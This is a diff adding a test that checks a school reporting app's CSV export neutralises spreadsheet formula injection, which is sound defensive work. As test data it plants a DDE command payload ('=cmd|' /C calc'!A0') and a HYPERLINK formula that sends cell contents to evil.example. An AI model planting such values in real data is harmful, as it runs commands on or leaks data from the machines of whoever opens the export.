@@ -188,3 +188,23 @@ def test_trends_leave_out_terms_not_yet_begun(
     )
     trends = client_for(school_admin).get("/school/").context["figures"]["trends"]["rows"]
     assert [row["heading"] for row in trends] == ["This term"]
+
+
+def test_no_cell_of_an_export_can_run_as_a_formula(
+    client_for, school_admin, school, year_terms, settings
+):
+    settings.REPORT_MIN_GROUP = 3
+    area = school.district.focus_areas.create(name="=cmd|' /C calc'!A0", position=9)
+    for _ in range(3):
+        cycle = closed_cycle(school)
+        cycle.focus_area = area
+        cycle.save()
+    coach = factories.coach_at(school, user__full_name='=HYPERLINK("http://evil.example/?"&A1,"x")')
+    factories.ActivityEntryFactory(coach=coach, school=school, minutes=30)
+    client = client_for(school_admin)
+    client.post(f"/reports/schools/{school.pk}/refresh/", {"period": "this_term"})
+    export = client.get(f"/reports/schools/{school.pk}/export.csv").content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
+    assert "'=cmd|' /C calc'!A0" in cells
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
